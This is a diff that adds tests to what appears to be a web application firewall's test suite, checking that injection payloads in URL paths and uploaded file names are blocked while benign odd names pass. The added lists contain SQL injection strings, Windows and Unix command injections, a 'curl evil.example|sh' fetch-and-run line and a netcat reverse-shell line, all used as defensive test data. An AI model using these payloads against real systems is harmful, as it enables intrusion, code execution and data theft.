@@ -77,6 +77,21 @@ const attacks = [
   '|nc 192.0.2.1 4444 -e /bin/sh',
 ];
 
+/** In one place: the others are what the list above is for. */
+const further = [
+  "1' into outfile '/srv/x",
+  '1 procedure analyse()',
+  '1 union values(1,2)',
+  'x|net user',
+  'x&&certutil -urlcache',
+  'x&powershell -c ls',
+  'x&powershell -enc AAAA',
+  ';reboot',
+  ';ls',
+  'x|base64 -d|sh',
+  'powershell -enc AAAA',
+];
+
 const honest = [
   "/wiki/O'Reilly",
   "/wiki/Rock_'n'_Roll",
@@ -122,6 +137,14 @@ const honest = [
   '/npm/@scope%2Fname/-/name-1.0.0.tgz',
   '/git/compare/main...feature',
   '/time/2024-01-01T00:00:00+01:00',
+  '/titles/Rock %26 echo',
+  '/titles/Ls and Rs',
+  '/wiki/PowerShell',
+  '/wiki/PowerShell - a history',
+  '/docs/base64',
+  '/titles/Home %26 net use',
+  '/titles/Procedure and analysis',
+  '/titles/European union values (2024)',
 ];
 
 const made = createPair(rules, createMemoryCache()).then(({ oracle, variants }) => [
@@ -145,6 +168,12 @@ t.test('issue 22 B10: SQL and commands in paths are raised, in every place and s
   }
 });
 
+t.test('issue 22 K3: injections and commands of Windows in paths are raised', async (t) => {
+  for (const { name, inspector } of await made)
+    for (const attack of further)
+      t.equal(ask(inspector, `/items/${once(attack)}/details`).interruption?.ruleId, 1_006_610, `${name}: ${attack}`);
+});
+
 t.test('issue 22 B10: odd paths of honest people are not', async (t) => {
   const inspectors = await made;
   for (const path of honest) {
@@ -155,5 +184,84 @@ t.test('issue 22 B10: odd paths of honest people are not', async (t) => {
         if (kind !== 'pass') raised.push(`${name}: ${uri} ${JSON.stringify(opinion?.features ?? [])}`);
       }
     t.strictSame(raised, [], path);
+  }
+});
+
+/** Names of uploaded files. */
+const attackNames = [
+  '$(whoami).png',
+  '`id`.png',
+  'x|cat /etc/passwd',
+  'a&&ping -c 5 1.1.1.1.png',
+  'sleep(10)-- -.png',
+  'a;id.png',
+  'x.png;curl evil.example|sh',
+  "1' OR '1'='1.png",
+  "x'; DROP TABLE a;--.png",
+  "x' union select 1,2,3-- .png",
+  '%3bid%3b.png',
+  'x|net user.png',
+];
+const honestNames = [
+  'Holiday & beach.png',
+  "o'brien cv.pdf",
+  'report (final) - copy.pdf',
+  'select from our menu.pdf',
+  "Rock'n'roll.mp3",
+  'black & white; draft 2.png',
+  'invoice #12 - order by phone.pdf',
+  'Tom & Jerry | Season 1.mkv',
+  "it's a union select committee.pdf",
+  'drop table tennis.jpg',
+  'cat & dog.png',
+  '$100 & up.png',
+  'Screenshot 2024-01-02 at 10.00.00.png',
+  'id.png',
+  'mix & sort.txt',
+  'a;b.png',
+  'AC;DC - live.mp3',
+  'sleep (1).wav',
+  'net user manual.pdf',
+  'Q&A id list.xlsx',
+  'PowerShell -- an introduction.pdf',
+];
+
+/** A form with one file. */
+function upload(inspector: Inspector, name: string): Verdict {
+  const bytes = Buffer.from(
+    `--b\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n` +
+      'Content-Type: image/png\r\n\r\nabcdef\r\n--b--\r\n',
+  );
+  const head = {
+    method: 'POST',
+    uri: '/upload',
+    protocol: 'HTTP/1.1',
+    headers: [
+      'Host',
+      'shop.example',
+      'Content-Type',
+      'multipart/form-data; boundary=b',
+      'Content-Length',
+      `${bytes.length}`,
+    ],
+    clientIp: '192.0.2.1',
+    clientPort: 1,
+    serverIp: '192.0.2.2',
+    serverPort: 80,
+  };
+  const environment = { uniqueId: 'x', nowMs: 0, store: createMemoryStore(), secondOpinion: 'enforce' as const };
+  const transaction = inspector.begin(head, environment);
+  if (inspector.requestHeaders(transaction) === null) inspector.requestBody(transaction, bytes);
+  return inspector.finish(transaction);
+}
+
+t.test('issue 22 K2: commands and injections in names of uploaded files are raised, odd names are not', async (t) => {
+  for (const { name: engine, inspector } of await made) {
+    for (const name of attackNames)
+      t.equal(upload(inspector, name).interruption?.ruleId, 1_006_610, `${engine}: ${name}`);
+    for (const name of honestNames) {
+      const { kind, opinion } = upload(inspector, name);
+      t.equal(kind, 'pass', `${engine}: ${name} ${JSON.stringify(opinion?.features ?? [])}`);
+    }
   }
 });
